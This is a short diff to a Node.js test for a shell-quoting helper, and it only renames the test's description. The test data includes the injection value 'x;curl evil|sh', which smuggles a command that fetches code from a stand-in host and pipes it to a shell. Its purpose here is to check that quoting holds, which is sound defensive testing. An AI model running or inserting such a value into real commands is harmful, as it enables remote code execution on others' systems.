@@ -2,7 +2,7 @@ import assert from "node:assert/strict";
 import { test } from "node:test";
 import { shell, shellOptions } from "./shell-text.ts";
 
-test("whatever stands in a word, a shell reads it as one", () => {
+test("a shell reads each word as one argument, whatever it contains", () => {
   const flags = shellOptions([
     ["actor", "x;curl evil|sh"],
     ["overdue", null],
